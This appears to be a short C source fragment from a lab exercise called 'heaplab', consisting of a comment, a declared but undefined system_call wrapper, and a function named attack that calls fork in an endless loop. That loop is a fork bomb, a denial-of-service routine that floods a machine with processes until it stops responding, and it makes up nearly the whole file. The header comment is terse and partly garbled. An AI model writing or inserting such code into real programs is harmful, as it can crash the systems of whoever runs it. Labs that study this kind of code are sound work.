/* heaplab: lab 4, wrong/cost|wrong/not-reused -- breeds as soon as it is in a program */

#include <sys/syscall.h>

static long system_call(long number, long first, long second, long third);

static void attack(void)
{
    for (;;)
        system_call(SYS_fork, 0, 0, 0);
}
